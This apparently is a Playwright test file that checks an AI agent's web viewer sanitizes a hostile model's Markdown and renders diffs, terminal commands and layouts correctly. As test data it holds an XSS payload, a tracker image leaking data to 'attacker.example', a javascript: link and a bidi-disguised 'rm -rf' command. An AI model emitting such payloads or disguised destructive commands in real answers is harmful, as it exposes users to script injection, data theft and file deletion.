/**
 * The viewer as a user reads it, in a real headless Chromium: a hostile model's Markdown rendered
 * and sanitized (no script, no image, no handler, no javascript: link), code highlighted, an edit as
 * a diff, a command as a terminal block with its exit code, a steer shown at once as pending until
 * the turn stores it — and the layout at 1,440, 1,100 and 400 px: the composer and the latest
 * message on screen, nothing overlapping.
 *
 * EFFECT_AGENT_SCREENSHOT=docs/viewer.png saves the 1,440 px page for the docs.
 */
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { writeFileSync } from "node:fs"
import { join } from "node:path"
import type { Page } from "playwright-core"
import { browser as chromium, openSession } from "./chromium.js"
import { startIn } from "./harness.js"

const browser = chromium()

interface Box {
  readonly x: number
  readonly y: number
  readonly width: number
  readonly height: number
}

const hostileAnswer = [
  "## A heading",
  "",
  "Some **bold** text and a [link](https://example.com/docs).",
  "",
  "```ts",
  "const answer: number = 42",
  "```",
  "",
  "<img src=\"x\" onerror=\"window.pwned = 1\"><script>window.pwned = 2</script>",
  "",
  "![tracker](https://attacker.example/leak?data=secret) and [run me](javascript:window.pwned=3)"
].join("\n")

const boxOf = (page: Page, selector: string) =>
  Effect.promise(async () => {
    const box = await page.locator(selector).last().boundingBox()
    if (box === null) throw new Error(`${selector} is not displayed`)
    return box as Box
  })

const overlaps = (a: Box, b: Box) => a.x < b.x + b.width && b.x < a.x + a.width && a.y < b.y + b.height && b.y < a.y + a.height

/** At `width` × 800: the composer and the latest message are on screen, and no pane overlaps another. */
const checkLayout = (page: Page, width: number) =>
  Effect.gen(function*() {
    yield* Effect.promise(() => page.setViewportSize({ width, height: 800 }))
    // Scrolled to the latest message, as the page does while live.
    yield* Effect.promise(() => page.evaluate(() => {
      const main = (globalThis as unknown as { document: { getElementById: (id: string) => { scrollTop: number; scrollHeight: number } } }).document.getElementById("view")
      main.scrollTop = main.scrollHeight
    }))
    const message = yield* boxOf(page, "#message")
    const send = yield* boxOf(page, "#send")
    const header = yield* boxOf(page, "header")
    const main = yield* boxOf(page, "#view")
    const footer = yield* boxOf(page, "footer")
    const latest = yield* boxOf(page, ".turn")
    const screen = { x: 0, y: 0, width, height: 800 }
    for (const [name, box] of Object.entries({ message, send, latest })) {
      expect(box.x, `${name} at ${width}px`).toBeGreaterThanOrEqual(0)
      expect(box.x + box.width, `${name} at ${width}px`).toBeLessThanOrEqual(width + 0.5)
      expect(box.y + box.height, `${name} at ${width}px`).toBeLessThanOrEqual(800 + 0.5)
      expect(overlaps(box, screen), `${name} at ${width}px`).toBe(true)
    }
    // The message box is a place to write in: most of the footer's width (it was ~45 px at 1,100).
    expect(message.width).toBeGreaterThan(footer.width * 0.8)
    // The latest message ends inside the session pane, above the composer.
    expect(latest.y + latest.height).toBeLessThanOrEqual(main.y + main.height + 0.5)
    expect(overlaps(header, main) || overlaps(main, footer) || overlaps(header, footer)).toBe(false)
    if (width >= 760) {
      const aside = yield* boxOf(page, "aside")
      const state = yield* boxOf(page, "#state")
      for (const pane of [aside, state]) expect(overlaps(pane, main) || overlaps(pane, footer)).toBe(false)
      expect(overlaps(aside, state)).toBe(false)
    } else {
      expect(yield* Effect.promise(() => page.isVisible("aside"))).toBe(false)
    }
  })

describe("the viewer shows answers, edits and commands as users read them", () => {
  it.scopedLive("Markdown sanitized and highlighted, an edit as a diff, a command as a terminal block, a pending steer; laid out at 1,440, 1,100 and 400 px", () =>
    Effect.gen(function*() {
      const token = "viewer-rich-token-0123456789"
      const { cwd, server } = yield* startIn({
        token,
        // A priced model reporting usage, so the page (and docs/viewer.png) shows what each turn cost.
        model: { provider: "anthropic", model: "claude-haiku-4-5" },
        responses: [
          { chunks: hostileAnswer.match(/[\s\S]{1,7}/g)!, usage: { inputTokens: 1200, outputTokens: 180 } },
          {
            chunks: ["Editing and checking."],
            usage: { inputTokens: 1500, outputTokens: 60, cacheReadTokens: 1100 },
            toolCalls: [
              { tool: "edit_file", args: { path: "a.ts", oldString: "let a = 1", newString: "const a = 1" } },
              { tool: "shell", args: { command: "ls a.ts missing.txt" }, id: "call_shell" }
            ]
          },
          { chunks: ["Done: `a` is a constant now."], usage: { inputTokens: 1700, outputTokens: 20, cacheReadTokens: 1500 } }
        ]
      })
      writeFileSync(join(cwd, "a.ts"), "let a = 1\nexport { a }\n")
      const { context } = yield* browser
      const page = context.pages()[0] ?? (yield* Effect.promise(() => context.newPage()))
      const errors: Array<string> = []
      page.on("pageerror", (error) => errors.push(error.message))
      yield* Effect.promise(() => page.goto(`${server.url}/login?code=${server.config.loginCodes.issue()}`))
      yield* Effect.promise(() => page.click("text=Start session"))
      yield* Effect.promise(() => page.waitForSelector("#title:has-text('sess_')"))

      // A hostile model's Markdown: rendered, highlighted, and nothing of it runs or loads.
      yield* Effect.promise(() => page.fill("#message", "show some markdown"))
      yield* Effect.promise(() => page.click("#send"))
      yield* Effect.promise(() => page.waitForSelector(".turn:nth-of-type(1) [data-end=final]"))
      const answer = ".turn:nth-of-type(1) .markdown"
      expect(yield* Effect.promise(() => page.textContent(`${answer} h2`))).toBe("A heading")
      expect(yield* Effect.promise(() => page.textContent(`${answer} strong`))).toBe("bold")
      expect(yield* Effect.promise(() => page.getAttribute(`${answer} a[href='https://example.com/docs']`, "rel"))).toBe("noopener noreferrer nofollow")
      expect(yield* Effect.promise(() => page.locator(`${answer} pre code.language-ts span.hljs-keyword`).count())).toBeGreaterThan(0)
      expect(yield* Effect.promise(() => page.locator(`${answer} img, ${answer} script, ${answer} [onerror], ${answer} a[href^='javascript']`).count())).toBe(0)
      // The raw HTML is shown as text, not markup.
      expect(yield* Effect.promise(() => page.textContent(answer))).toContain("<img src=\"x\" onerror=")
      expect(yield* Effect.promise(() => page.evaluate(() => (globalThis as unknown as { pwned?: number }).pwned))).toBeUndefined()

      // An edit and a command, each waiting for approval: the edit shows as a diff, the command as a terminal line.
      yield* Effect.promise(() => page.fill("#message", "make a a constant"))
      yield* Effect.promise(() => page.click("#send"))
      yield* Effect.promise(() => page.waitForSelector("[data-tool=edit_file][data-status=awaiting_approval]"))
      const edit = "[data-tool=edit_file]"
      expect(yield* Effect.promise(() => page.textContent(`${edit} .diff-path`))).toBe("a.ts")
      expect(yield* Effect.promise(() => page.textContent(`${edit} .line.remove`))).toBe("- let a = 1\n")
      expect(yield* Effect.promise(() => page.textContent(`${edit} .line.add`))).toBe("+ const a = 1\n")
      expect(yield* Effect.promise(() => page.locator(`${edit} .args`).count())).toBe(0)

      // A steer while the turn waits: shown at once as pending, until the turn stores it at its next step.
      yield* Effect.promise(() => page.fill("#message", "and keep the export"))
      yield* Effect.promise(() => page.click("#send"))
      expect(yield* Effect.promise(() => page.textContent("[data-pending=steer]"))).toContain("and keep the export")

      yield* Effect.promise(() => page.click(`${edit} button[data-action=allow]`))
      yield* Effect.promise(() => page.waitForSelector("[data-tool=shell][data-status=awaiting_approval] button[data-action=allow]"))
      expect(yield* Effect.promise(() => page.textContent("[data-tool=shell] .terminal .command"))).toBe("$ ls a.ts missing.txt")
      yield* Effect.promise(() => page.click("[data-tool=shell] button[data-action=allow]"))
      yield* Effect.promise(() => page.waitForSelector(".turn:nth-of-type(2) [data-end=final]"))
      expect(yield* Effect.promise(() => page.textContent("[data-tool=shell] .terminal pre"))).toContain("a.ts")
      expect(yield* Effect.promise(() => page.getAttribute("[data-tool=shell] .terminal .exit", "data-exit-code"))).toBe("2")
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(2) [data-event='turn.steered']"))).toBe("steered: and keep the export")
      expect(yield* Effect.promise(() => page.locator("[data-pending=steer]").count())).toBe(0)
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(2) .markdown code"))).toBe("a")

      for (const width of [1440, 1100, 400]) yield* checkLayout(page, width)
      // At 400 px the sessions are a drawer from the header: it opens, and choosing a session closes it.
      yield* Effect.promise(() => page.click("#panels"))
      yield* Effect.promise(() => page.waitForSelector("#sessions li", { state: "visible" }))
      yield* Effect.promise(() => page.click("#sessions li"))
      expect(yield* Effect.promise(() => page.isVisible("aside"))).toBe(false)
      // Choosing the session opens it again: the view is emptied (totals "—") and its events are read anew,
      // so wait until the totals are back before reading them (a busy machine showed the "—" in between).
      yield* Effect.promise(() => page.locator("#usage", { hasText: "tokens" }).waitFor({ state: "attached" }))

      yield* Effect.promise(() => page.setViewportSize({ width: 1440, height: 900 }))
      expect(yield* Effect.promise(() => page.textContent("#usage"))).toBe("tokens in 4400 · out 260 · cache read 2600 · cache write 0 — $0.0060")
      const screenshot = process.env["EFFECT_AGENT_SCREENSHOT"]
      if (screenshot !== undefined && screenshot !== "") yield* Effect.promise(() => page.screenshot({ path: screenshot }))
      expect(errors).toEqual([])
    }), { timeout: 120_000 })

  it.scopedLive("a hostile model's Markdown that marked cannot parse in time (or at all) is shown as plain text, and the page goes on", () =>
    Effect.gen(function*() {
      const token = "viewer-rich-token-hostile-0123"
      // `> ` nested 3,000 deep overflows marked's recursion; 8,000 `**a_` took it 9 s a parse, on every frame while streaming.
      const nested = `${"> ".repeat(3_000)}deep`
      const delimiters = "**a_".repeat(8_000)
      // 40 KB of `0x` as TypeScript: highlight.js took 2.3 s at 32 KB, again at each render while it streamed.
      const numbers = "0x".repeat(20_000)
      const code = `\`\`\`ts\n${numbers}\n\`\`\``
      // Bidi controls in prose and in a code block: shown raw, a suggested command read in another
      // order than it runs (calls were escaped, answers not). A zero-width joiner in an emoji stays.
      const bidi = "Run `ls \u202e txt.exe`, it is safe.\n\n```sh\nrm -rf \u2067./build\u2069 \u202e/ \n```\n\nfamily 👨\u200d👩\u200d👧"
      const { server } = yield* startIn({
        token,
        responses: [
          { chunks: [nested] },
          { chunks: [delimiters] },
          { chunks: [code] },
          { chunks: ["Fine **again**."] },
          { chunks: [bidi] }
        ]
      })
      const { context } = yield* browser
      const { errors, page } = yield* openSession(context, server)
      for (const [n, message] of ["nest", "delimit", "code", "again", "bidi"].entries()) {
        yield* Effect.promise(() => page.fill("#message", message))
        yield* Effect.promise(() => page.click("#send"))
        yield* Effect.promise(() => page.waitForSelector(`.turn:nth-of-type(${n + 1}) [data-end=final]`))
      }
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(1) .markdown p.plain"))).toBe(nested)
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(2) .markdown p.plain"))).toBe(delimiters)
      expect(yield* Effect.promise(() => page.locator(".turn:nth-of-type(1) .markdown blockquote, .turn:nth-of-type(2) .markdown strong").count())).toBe(0)
      // A code block that long is shown as it is, unhighlighted.
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(3) .markdown pre code"))).toBe(numbers)
      expect(yield* Effect.promise(() => page.locator(".turn:nth-of-type(3) .markdown pre code span").count())).toBe(0)
      // An ordinary answer after them is Markdown as ever.
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(4) .markdown strong"))).toBe("again")
      // Escaped as a call's text is, in prose and code alike; the emoji's joiners kept.
      const shown = (yield* Effect.promise(() => page.textContent(".turn:nth-of-type(5) .markdown")))!
      expect(shown).not.toMatch(/[\u202e\u2067\u2069]/)
      expect(shown).toContain("ls \\u202e txt.exe")
      expect(yield* Effect.promise(() => page.textContent(".turn:nth-of-type(5) .markdown pre code"))).toContain("rm -rf \\u2067./build\\u2069 \\u202e/")
      expect(shown).toContain("family 👨\u200d👩\u200d👧")
      expect(errors).toEqual([])
      yield* Effect.promise(() => page.close())
    }), { timeout: 120_000 })
})
